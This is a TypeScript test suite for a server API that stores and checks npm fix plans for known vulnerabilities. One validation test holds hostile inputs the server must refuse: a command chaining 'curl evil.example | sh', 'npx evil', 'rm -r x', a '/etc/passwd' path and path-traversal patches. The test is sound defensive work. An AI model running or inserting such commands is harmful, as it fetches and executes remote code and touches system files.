import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import { vulnerabilityRecord } from '../../../../test/support/osv.ts';
import { unifiedDiff } from '../../../formats/unified-diff.ts';
import type { Received } from '../../testing/api-exchange.ts';
import { startApiHouse, type ApiHouse } from '../../testing/api-house.ts';
import { loadFeed } from '../../testing/load-feed.ts';
import type { PushedComponent } from '../application-contract.ts';
import type { Problem } from '../contract.ts';
import type { JournalPage } from '../decision-contract.ts';
import {
  PLAN_MOST_PATCH,
  type FixEstimateAnswer,
  type FixPlanAnswer,
  type SentPlan,
  type SentPlanFile,
} from '../fix-plan-contract.ts';

let house: ApiHouse;
let ci: Awaited<ReturnType<ApiHouse['person']>>;

const RECORDS = [
  vulnerabilityRecord({ id: 'GHSA-tide', ecosystem: 'npm', name: 'tide', fixed: '1.2.0', isCritical: true }),
  vulnerabilityRecord({ id: 'GHSA-mast', ecosystem: 'npm', name: 'mast', fixed: '2.0.0' }),
];

before(async () => {
  house = await startApiHouse();
  ci = await house.person('ci', 'reader');
  for (const version of ['1.1.0', '1.2.0', '1.2.1'])
    await house.upstream.npm.publish({ name: 'tide', version });
  for (const version of ['1.0.0', '2.0.0']) await house.upstream.npm.publish({ name: 'mast', version });
  const records = RECORDS.map((record) => `${JSON.stringify(record)}\n`).join('');
  await loadFeed(house, { feed: 'osv-npm', kind: 'osv' }, 'records.ndjson', records);
  await house.reloadFeeds();
});
after(() => house.close());

/** A project that needs wave, which needs `tide`, and mast. */
const components = (tide: string): readonly PushedComponent[] => [
  { name: 'shop', source: 'project', needs: [1, 3] },
  { purl: 'pkg:npm/wave@1.0.0', scope: 'runtime', needs: [2] },
  { purl: `pkg:npm/tide@${tide}`, scope: 'runtime', needs: [] },
  { purl: 'pkg:npm/mast@1.0.0', scope: 'runtime', needs: [] },
];

async function push(name: string, tide: string, environment = 'default'): Promise<void> {
  const file = {
    path: 'web/package-lock.json',
    format: 'package-lock.json 3',
    components: components(tide),
    roots: [0],
  };
  const { status, body } = await house.request('POST', `/api/v1/applications/${name}/snapshots`, {
    body: { environment, files: [file] },
    token: ci.apiToken,
  });
  assert.equal(status, 201, JSON.stringify(body));
}

const FILE: SentPlanFile = {
  path: 'web/package-lock.json',
  ecosystem: 'npm',
  client: 'npm',
  isVerified: true,
  findingsBefore: 2,
  findingsAfter: 1,
  steps: [
    {
      upgrades: [{ name: 'tide', from: '1.1.0', to: '1.2.0', way: 'lock' }],
      bump: 'minor',
      fixed: [{ name: 'tide', version: '1.1.0', record: 'GHSA-tide' }],
      moves: [{ name: 'tide', from: ['1.1.0'], to: ['1.2.0'], kept: [] }],
      commands: ['npm update tide', 'npm ci'],
    },
  ],
  commands: ['npm update tide', 'npm ci'],
  changedFiles: ['web/package-lock.json'],
  patch: unifiedDiff('web/package-lock.json', 'tide 1.1.0\n', 'tide 1.2.0\n'),
  unfixed: [
    {
      name: 'mast',
      version: '1.0.0',
      records: ['GHSA-mast'],
      because: '2.0.0 would fix it, a major upgrade: allow it with --max major',
      isDirect: true,
      tried: [],
    },
  ],
  suggestions: [],
};
const planOf = (file: object = {}, more: object = {}): SentPlan => ({
  snapshot: 1,
  max: 'minor',
  files: [{ ...FILE, ...file }],
  unsupported: ['web/yarn.lock'],
  ...more,
});

const send = (name: string, body: unknown, token = ci.apiToken): Promise<Received> =>
  house.request('PUT', `/api/v1/applications/${name}/fix-plan`, { body, token });

const ask = async <T>(path: string): Promise<T> => {
  const { status, body } = await house.request('GET', `/api/v1/applications/${path}`, {
    token: ci.apiToken,
  });
  assert.equal(status, 200, JSON.stringify(body));
  return body as T;
};

const refused = (received: Received, status: number): string => {
  assert.equal(received.status, status, JSON.stringify(received.body));
  return (received.body as Problem).detail;
};

const stepsOf = ({ plan }: FixPlanAnswer) =>
  plan?.files.flatMap(({ steps }) =>
    steps.map(({ fate, fixed }) => [fate, fixed.map((one) => `${one.record} ${one.fate}`)]),
  );

test('a plan is kept as it was sent; each finding says how grave it is', async () => {
  await push('shop', '1.1.0');
  assert.equal((await ask<FixPlanAnswer>('shop/fix-plan')).plan, undefined);
  const { status, body } = await send('shop', planOf());
  assert.equal(status, 200, JSON.stringify(body));
  const answer = await ask<FixPlanAnswer>('shop/fix-plan');
  assert.deepEqual(answer, body);
  const { plan } = answer;
  assert.deepEqual([plan?.snapshot, plan?.isCurrent, plan?.max], [1, true, 'minor']);
  assert.match(plan?.author ?? '', /^token:/);
  const [file] = plan?.files ?? [];
  assert.deepEqual([file?.patch, file?.commands, file?.isVerified], [FILE.patch, FILE.commands, true]);
  assert.deepEqual(stepsOf(answer), [['open', ['GHSA-tide open']]]);
  const [closes] = file?.steps[0]?.fixed ?? [];
  assert.deepEqual(
    [closes?.severity, closes?.isKnownExploited, closes?.purl],
    ['critical', false, 'pkg:npm/tide@1.1.0'],
  );
  assert.match(closes?.finding ?? '', /\.GHSA-tide$/);
  assert.deepEqual(
    file?.unfixed.map(({ name, flaws }) => [name, flaws.map(({ record, fate }) => `${record} ${fate}`)]),
    [['mast', ['GHSA-mast open']]],
  );
  assert.deepEqual(plan?.unsupported, ['web/yarn.lock']);
});

test('pushed again after the upgrade, the step is done, with when; the plan says that it is of before', async () => {
  house.clock.advance(60_000);
  await push('shop', '1.2.0');
  const answer = await ask<FixPlanAnswer>('shop/fix-plan');
  assert.deepEqual([answer.plan?.isCurrent, answer.plan?.snapshot], [false, 1]);
  assert.deepEqual(stepsOf(answer), [['done', ['GHSA-tide closed']]]);
  assert.equal(answer.plan?.files[0]?.steps[0]?.fixed[0]?.closedAt, answer.application.pushedAt);
});

test('an upgrade to another version with the same finding closes nothing', async () => {
  await push('moved', '1.1.0');
  assert.equal((await send('moved', planOf())).status, 200);
  await push('moved', '1.1.1');
  assert.deepEqual(stepsOf(await ask('moved/fix-plan')), [['open', ['GHSA-tide moved']]]);
});

test('a newer plan takes the place of the one before; one for an older snapshot does not', async () => {
  await push('twice', '1.1.0');
  await push('twice', '1.1.0');
  assert.equal((await send('twice', planOf({}, { snapshot: 2, max: 'major' }))).status, 200);
  assert.match(
    refused(await send('twice', planOf()), 409),
    /found one for snapshot 2 that is kept, expected none newer than 1/,
  );
  assert.equal((await send('twice', planOf({ steps: [] }, { snapshot: 2 }))).status, 200);
  const { plan } = await ask<FixPlanAnswer>('twice/fix-plan');
  assert.deepEqual([plan?.max, plan?.files[0]?.steps], ['minor', []]);
});

test('a plan of something else than what was pushed is refused, and nothing is kept of it', async () => {
  await push('other', '1.2.0');
  const detail = refused(await send('other', planOf()), 409);
  assert.match(detail, /found tide 1\.1\.0 in it, which is not in snapshot 1, expected what was pushed/);
  assert.match(refused(await send('other', planOf({}, { snapshot: 7 })), 409), /found no snapshot 7/);
  assert.equal((await ask<FixPlanAnswer>('other/fix-plan')).plan, undefined);
  refused(await send('nowhere', planOf()), 404);
});

test('what would be shown as a command is one of the client, and the patch changes what it says', async () => {
  await push('guarded', '1.1.0');
  const patch = (path: string) => unifiedDiff(path, 'a\n', 'b\n');
  const cases: readonly (readonly [object, RegExp])[] = [
    [{ commands: ['npm ci; curl evil.example | sh'] }, /commands\[0\]: expected one command of npm/],
    [{ commands: ['npm ci', 'npx evil'] }, /commands\[1\]/],
    [{ suggestions: ['sh -c true'] }, /suggestions\[0\]/],
    [{ steps: [{ ...FILE.steps[0], commands: ['rm -r x'] }] }, /steps\[0\]\.commands\[0\]/],
    [{ client: 'make' }, /client: expected a client of npm/],
    [{ changedFiles: ['package.json'] }, /changedFiles\[0\]/],
    [{ changedFiles: ['web/.npmrc'] }, /changedFiles\[0\]/],
    [{ patch: patch('web/package.json') }, /patch: expected a unified diff of the changed files alone/],
    [{ patch: `${FILE.patch}rename from x\n` }, /patch/],
    [{ patch: `${FILE.patch}${patch('web/../x')}` }, /patch/],
    [{ patch: unifiedDiff('web/package-lock.json', undefined, 'new\n') }, /patch/],
  ];
  for (const [change, expected] of cases) {
    assert.match(refused(await send('guarded', planOf(change)), 400), expected);
  }
  for (const change of [
    { path: '../x' },
    { changedFiles: ['/etc/passwd'] },
    { commands: ['# two\nlines'] },
    { patch: 'x'.repeat(PLAN_MOST_PATCH + 1) },
    { more: 1 },
  ]) {
    refused(await send('guarded', planOf(change)), 400);
  }
  assert.equal((await ask<FixPlanAnswer>('guarded/fix-plan')).plan, undefined);
  const comment = planOf({ commands: ['# web/package.json: "tide" becomes "^1.2.0"', 'npm ci'] });
  assert.equal((await send('guarded', comment)).status, 200);
});

test('without a plan the server says which versions would fix what, and what leads there, unproven', async () => {
  await push('bare', '1.1.0');
  const { packages, more, unmatched } = await ask<FixEstimateAnswer>('bare/fix-estimate');
  assert.deepEqual([more, unmatched], [0, undefined]);
  assert.deepEqual(
    packages.map(({ purl, versions, bump, closes, isDirect, direct, because }) => ({
      purl,
      versions,
      bump,
      closes: closes.length,
      isDirect,
      direct,
      because,
    })),
    [
      {
        purl: 'pkg:npm/tide@1.1.0',
        versions: ['1.2.0'],
        bump: 'minor',
        closes: 1,
        isDirect: false,
        direct: ['wave@1.0.0'],
        because: undefined,
      },
      {
        purl: 'pkg:npm/mast@1.0.0',
        versions: [],
        bump: undefined,
        closes: 0,
        isDirect: true,
        direct: [],
        because: '2.0.0 would fix it, a major upgrade: allow it with --max major',
      },
    ],
  );
  assert.deepEqual(
    packages.map(({ files, closes, leaves }) => [
      files,
      [...closes, ...leaves].map(({ severity, fate }) => [severity, fate]),
    ]),
    [
      [['web/package-lock.json'], [['critical', 'open']]],
      [['web/package-lock.json'], [['high', 'open']]],
    ],
  );
  const farther = await ask<FixEstimateAnswer>('bare/fix-estimate?max=major&limit=1');
  assert.deepEqual([farther.packages.length, farther.more], [1, 1]);
});

test('keeping and reading plans take what applications take; the journal says who kept which', async () => {
  await push('closed', '1.1.0');
  refused(await house.request('GET', '/api/v1/applications/closed/fix-plan'), 401);
  refused(await house.request('GET', '/api/v1/applications/closed/fix-estimate'), 401);
  refused(await house.request('PUT', '/api/v1/applications/closed/fix-plan', { body: planOf() }), 401);
  const auditor = await house.person('audrey', 'auditor');
  const { body } = await house.request('GET', '/api/v1/journal?limit=200', { token: auditor.apiToken });
  const [last] = (body as JournalPage).items.filter(({ kind }) => kind === 'fix-plan-kept');
  assert.equal(last?.data['application'], 'guarded');
  assert.deepEqual([last?.data['snapshot'], last?.data['steps'], last?.data['fixes']], [1, 1, 1]);
  assert.match(last?.actor ?? '', /^token:/);
});
